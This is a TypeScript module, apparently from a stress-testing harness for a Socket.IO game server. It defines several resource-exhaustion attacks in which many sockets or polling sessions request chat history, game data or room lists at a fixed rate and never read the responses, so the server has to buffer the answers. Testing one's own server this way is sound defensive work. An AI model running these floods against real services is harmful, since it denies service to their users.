// Attacks by clients that request much and read nothing, so the server must buffer the answers.
import { type Attack, type Attackers, add, atRate, type Counts } from "./attackers.ts";
import { frame } from "./raw-websocket.ts";

const EVENTS_PER_SECOND = 60;
/** How many rooms one socket may create at once. */
const ROOMS = 30;
const POLLING = "/socket.io/?EIO=4&transport=polling";

export const UNREAD_ATTACKS = {
  "unread-chat": (by) => neverRead(by, "get-chat-history", { gameId: by.options.gameId }),
  "unread-game": (by) => neverRead(by, "get-game", { gameId: by.options.gameId }),
  "unread-rooms": async (by) => {
    await openRooms(by);
    return neverRead(by, "get-public-rooms", {});
  },
  /** Uses polling. Sends only POST requests, and no GET request that would fetch the answers. */
  "unread-polls": async (by) => {
    const sids = await Promise.all(Array.from({ length: by.count }, (_, nth) => openPoll(by, nth)));
    const body = eventOf("get-chat-history", { gameId: by.options.gameId });
    const counts: Counts = {};
    const closed = new Set<string>();
    const under = new Set<string>();
    const askAll = () => {
      sids.forEach((sid, nth) => {
        // One request at a time, because Engine.IO closes a connection with two simultaneous requests.
        if (closed.has(sid) || under.has(sid)) return;
        under.add(sid);
        by.call(nth, "POST", `${POLLING}&sid=${sid}`, { body })
          .then(({ status }) => {
            add(counts, `${status}`);
            if (status !== 200) closed.add(sid);
          })
          .catch(() => closed.add(sid))
          .finally(() => under.delete(sid));
      });
    };
    await atRate(by.duration, EVENTS_PER_SECOND, askAll, () => closed.size === sids.length);
    return { ...counts, closed: closed.size, open: sids.length - closed.size };
  },
} satisfies Readonly<Record<string, Attack>>;

/** Sockets that send the event at the full allowed rate and never read. */
async function neverRead(by: Attackers, event: string, payload: object): Promise<Counts> {
  const { deviceId } = by.options;
  const sockets = await Promise.all(
    Array.from({ length: by.count }, (_, nth) => by.join(nth, deviceId === "" ? {} : { deviceId })),
  );
  for (const socket of sockets) socket.pause();
  const asks = frame(eventOf(event, payload));
  let asked = 0;
  const askAll = () => {
    for (const { tcp } of sockets) {
      if (!tcp.writable) continue;
      asked++;
      tcp.write(asks);
    }
  };
  await atRate(by.duration, EVENTS_PER_SECOND, askAll, () => sockets.every((socket) => socket.isClosed));
  // A paused connection notices its end only by writing.
  const closed = sockets.filter((socket) => socket.isClosed).length;
  return { asked, closed, open: sockets.length - closed };
}

function eventOf(event: string, payload: object): string {
  return `420${JSON.stringify([event, payload])}`;
}

async function openRooms(by: Attackers): Promise<void> {
  const socket = await by.join();
  const all = Array.from({ length: ROOMS }, (_, nth) => socket.demand("create-room", { roomName: `Room ${nth}` }));
  await Promise.all(all);
  socket.close();
}

async function openPoll(by: Attackers, nth: number): Promise<string> {
  const { body } = await by.call(nth, "GET", POLLING);
  const [, sid = ""] = /"sid":"([^"]+)"/.exec(body) ?? [];
  await by.call(nth, "POST", `${POLLING}&sid=${sid}`, {
    body: `40${JSON.stringify({ deviceId: by.options.deviceId })}`,
  });
  // The socket exists only once the answer to CONNECT has been read.
  await by.call(nth, "GET", `${POLLING}&sid=${sid}`);
  return sid;
}
